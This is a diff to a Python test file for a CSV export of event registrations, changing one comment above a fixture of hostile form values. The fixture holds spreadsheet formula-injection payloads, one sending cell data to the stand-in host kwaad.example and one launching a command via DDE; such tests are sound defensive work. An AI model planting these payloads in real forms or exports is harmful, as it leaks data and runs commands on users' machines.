@@ -58,7 +58,7 @@ def test_staff_export_the_registrations_as_csv(moderator_client, event):
     assert row[header.index("Plaatsen")] == "26"
 
 
-# What an attacker types into the public form so that a spreadsheet runs it (issue 12, row 7).
+# What an attacker types into the public form so that a spreadsheet runs it (CSV injection).
 HOSTILE = {
     "school_name": '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier, juf Renée")',
     "school_reference": "-2+3+cmd|' /C calc'!A0",
